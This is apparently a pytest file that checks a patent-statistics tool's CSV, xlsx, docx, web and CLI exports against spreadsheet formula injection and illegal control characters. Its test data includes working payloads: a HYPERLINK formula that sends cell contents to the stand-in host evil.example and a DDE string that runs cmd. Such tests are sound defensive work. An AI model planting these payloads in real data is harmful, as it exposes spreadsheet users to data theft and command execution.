"""Exports of hostile data: titles and names that a spreadsheet would run as formulas (OWASP "CSV
Injection"), and characters XML forbids (a NUL already in the warehouse). Every xlsx the server and the
CLI write is opened again and read the way Excel would: no formula anywhere, text as text, numbers as
numbers, and no export fails."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pandas as pd
import pytest
from docx import Document
from openpyxl import load_workbook

import world
from hvpatent.reports.safe_cells import FORMULA_START, neutralise, safe_row
from hvpatent.reports.tables import write_xlsx
from test_cli import hvp
from webserver import PASSWORD, serve, world_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
DDE = '@SUM(1+1)*cmd|" /C calc"!A0'
CONTROL = "含\x00空字符\x1b的名称"
HOSTILE = ["=1+1", HYPERLINK, "+86 23 1234", "-2+3", DDE, "\t=1+1", "\r=1+1"]


def _no_formulas(data: bytes) -> None:
    """No cell of the workbook is a formula: the sheets' XML has no <f> element at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _safe_workbook(data: bytes) -> list[str]:
    """Every text cell is a string cell that no spreadsheet evaluates; returns the texts."""
    _no_formulas(data)
    texts = []
    for cell in _cells(data):
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)
            texts.append(cell.value)
    return texts


def test_neutralise_follows_owasp():
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("重庆甲新能源科技有限公司", "CN202110123456.7", "a=b", " =1", "'already quoted", ""):
        assert neutralise(text) == text
    assert neutralise("a\x00b\x1bc\x7f") == "a\ufffdb\ufffdc\x7f"   # C0 controls only; DEL is legal XML
    assert neutralise("\x00=1") == "\ufffd=1"
    assert safe_row([-5, 1.5, None, "=1+1", True]) == [-5, 1.5, None, "'=1+1", True]


def test_csv_rows_read_back_as_text(tmp_path):
    path = tmp_path / "out.csv"
    with path.open("w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f).writerows([safe_row(["名称", "数值"]), *(safe_row([t, -5]) for t in HOSTILE)])
    with path.open(newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE] and {r[1] for r in rows[1:]} == {"-5"}


def test_xlsx_writes_text_as_text_and_numbers_as_numbers(tmp_path):
    frame = pd.DataFrame({"title": [*HOSTILE, "#N/A", CONTROL, "普通名称"],
                          "value": [-5, -1.5, 0, 3, 4, 5, 6, 7, 8, 9]})
    data = write_xlsx({"清单": frame, "a/b:c*?[x]": frame.head(1)}, tmp_path / "x.xlsx").read_bytes()
    texts = _safe_workbook(data)
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["清单", "a_b_c___x_"]
    rows = list(wb["清单"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows[:7]] == ["'" + t for t in HOSTILE]
    assert rows[7][0] == "#N/A"                                  # text, not an Excel error value
    assert rows[8][0] == "含\ufffd空字符\ufffd的名称"
    assert rows[0][1] == -5 and rows[1][1] == -1.5               # negative numbers stay numbers
    assert wb["清单"].cell(2, 2).data_type == "n"
    assert "普通名称" in texts


# -- the same through every export a user can reach ------------------------------------------------

def _hostile_world(folder: Path) -> Path:
    """The world.py district, then data as a careless import might have left it: formulas as titles and
    names, a NUL and an ESC in a name and a title, a formula as an import's file name."""
    from hvpatent.warehouse.store import Warehouse

    db = world_db(folder, "hostile.duckdb")
    with Warehouse(db) as wh:
        wh.con.execute("UPDATE applications SET title = ? WHERE app_no IN (?, ?)", [HYPERLINK, world.A1, world.A3])
        wh.con.execute("UPDATE applications SET title = ? WHERE app_no IN (?, ?)", [CONTROL, world.A5, world.A10])
        wh.con.execute("UPDATE parties SET name = ? WHERE name = ?", [DDE, world.E1])
        wh.con.execute("UPDATE parties SET name = ? WHERE name = ?", ["=1+1" + CONTROL, world.E2])
        wh.con.execute("UPDATE imports SET file_name = ? WHERE import_id = (SELECT min(import_id) FROM imports)",
                       ["=1+1.xlsx"])
        # Written behind the importer's back: mark what it would have marked, and refresh as it would
        wh.con.execute("INSERT INTO derived_stale SELECT app_no FROM applications")
        from hvpatent.indicators import refresh_derived

        refresh_derived(wh)
    return db


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    from hvpatent.web import create_app

    folder = tmp_path_factory.mktemp("hostile")
    db = _hostile_world(folder)
    cli_db = shutil.copy(db, folder / "cli.duckdb")  # the server holds its file; the CLI reads a copy
    with serve(create_app(db, secret="test-secret")) as url:
        yield url, Path(cli_db)


@contextmanager
def _login(url: str, username: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=url, timeout=120) as c:
        r = c.post("/api/login", json={"username": username, "password": PASSWORD})
        assert r.status_code == 200, r.text
        yield c


DAY = {"as_of": "2024-12-31", "region": "500118"}


def _export(c: httpx.Client, path: str, **params) -> bytes:
    r = c.get(path, params={**DAY, **params, "format": "xlsx"})
    assert r.status_code == 200, r.text
    return r.content


def test_every_web_export_is_inert(hostile):
    url, _ = hostile
    with _login(url, "analyst") as c:
        highvalue = _safe_workbook(_export(c, "/api/highvalue"))
        assert "'" + HYPERLINK in highvalue and "'" + DDE in highvalue
        records = _safe_workbook(_export(c, "/api/indicators/valid_inventions/records"))
        assert "'" + DDE in records and "'=1+1含\ufffd空字符\ufffd的名称" in records
        warnings = _safe_workbook(_export(c, "/api/warnings", within=730))
        assert any(t.startswith("'=1+1含") or t == "'" + DDE for t in warnings)
        assert "'=1+1.xlsx" in _safe_workbook(_export(c, "/api/imports"))
        years = [cell.value for cell in _cells(_export(c, "/api/highvalue")) if cell.column == 6 and cell.row > 1]
        assert years and all(isinstance(v, int) for v in years)  # numbers stay numbers
    with _login(url, "yi") as yi:
        mine = _safe_workbook(_export(yi, "/api/my/patents"))
        assert "'=1+1含\ufffd空字符\ufffd的名称" in mine, mine


def test_bulletin_workbook_and_document_are_inert(tmp_path):
    """The bulletin's writers on a bulletin holding hostile names (computing a real one takes minutes)."""
    from datetime import date

    from hvpatent.reports import write_bulletin
    from hvpatent.reports.bulletin import Bulletin, Section, Table

    rows = [{"rank": 1, "applicant": DDE, "valid": 3}, {"rank": 2, "applicant": CONTROL, "valid": -1}]
    section = Section("四、重点产业与创新主体", [HYPERLINK + "等企业", CONTROL],
                      tables=[Table("有效发明专利前10位企业", [("rank", "排名"), ("applicant", "企业"),
                                                              ("valid", "有效发明专利(件)")], rows)])
    bulletin = Bulletin("永川区2024年知识产权统计通报", "永川区知识产权局", date(2025, 1, 10), date(2024, 12, 31),
                        "year", "500118", "永川区", [section], [("有效发明专利", "=定义")], ["来源"], {},
                        {"高价值清单": [{"app_no": world.A1, "title": HYPERLINK, "years_maintained": 12}]})
    texts = _safe_workbook(write_bulletin(bulletin, "xlsx", tmp_path / "b.xlsx").read_bytes())
    assert {"'" + DDE, "'" + HYPERLINK + "等企业", "'" + HYPERLINK, "'=定义"} <= set(texts)
    assert "含\ufffd空字符\ufffd的名称" in texts
    wb = load_workbook(tmp_path / "b.xlsx")
    top = list(wb["有效发明专利前10位企业"].iter_rows(min_row=2, values_only=True))
    assert top == [(1, "'" + DDE, 3), (2, "含\ufffd空字符\ufffd的名称", -1)]
    doc = Document(str(write_bulletin(bulletin, "docx", tmp_path / "b.docx")))
    cells = [cell.text for t in doc.tables for row in t.rows for cell in row.cells]
    assert "含\ufffd空字符\ufffd的名称" in cells and DDE in cells   # Word runs no formulas: the text as it is
    assert "含\ufffd空字符\ufffd的名称" in [p.text for p in doc.paragraphs]


def test_cli_xlsx_export_is_inert(hostile, tmp_path):
    _, db = hostile
    out = tmp_path / "highvalue.xlsx"
    hvp("--db", str(db), "highvalue", "--as-of", "2024-12-31", "--format", "xlsx", "--out", str(out))
    texts = _safe_workbook(out.read_bytes())
    assert "'" + HYPERLINK in texts


def test_errors_report_quotes_the_bad_values(tmp_path):
    from hvpatent.ingest import write_errors_report
    from hvpatent.model import RowError

    errors = [RowError("=1+1.xlsx", 2, "申请号", HYPERLINK, "不是申请号 / not an application number"),
              RowError("a.csv", 3, "申请日", "-2+3", "日期无效 / bad date")]
    texts = _safe_workbook(write_errors_report(errors, tmp_path / "errors.xlsx").read_bytes())
    assert {"'=1+1.xlsx", "'" + HYPERLINK, "'-2+3"} <= set(texts)
